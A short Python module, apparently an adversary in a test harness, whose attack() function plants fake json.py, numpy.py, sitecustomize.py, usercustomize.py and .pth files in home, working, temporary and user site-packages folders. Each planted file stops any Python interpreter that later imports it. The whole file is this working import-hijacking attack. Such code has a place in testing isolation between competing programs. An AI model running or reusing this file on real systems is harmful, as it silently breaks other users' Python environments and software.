"""Leaves modules and start-up files where the next candidate's interpreter might find them before the real ones."""

import os
import site
from typing import Any

_BAD = "raise SystemExit('poisoned')\n"


def attack(_world: Any) -> list[str]:
    """In its own folder, its home, temporary folders, and where users keep packages of their own."""
    homes = {os.environ.get("HOME", "/tmp"), os.getcwd(), "/tmp", "..", "/dev/shm"}
    places = homes | {f"{home}/.local/lib/python3/site-packages" for home in homes} | {site.getusersitepackages()}
    for place in places:
        for name in ("json.py", "numpy.py", "sitecustomize.py", "usercustomize.py", "frames.py", "a.pth", "pyvenv.cfg"):
            try:
                os.makedirs(place, exist_ok=True)
                with open(os.path.join(place, name), "w") as file:
                    file.write(_BAD if name.endswith(".py") else f"import os; {_BAD}")
            except OSError:
                continue
    return []
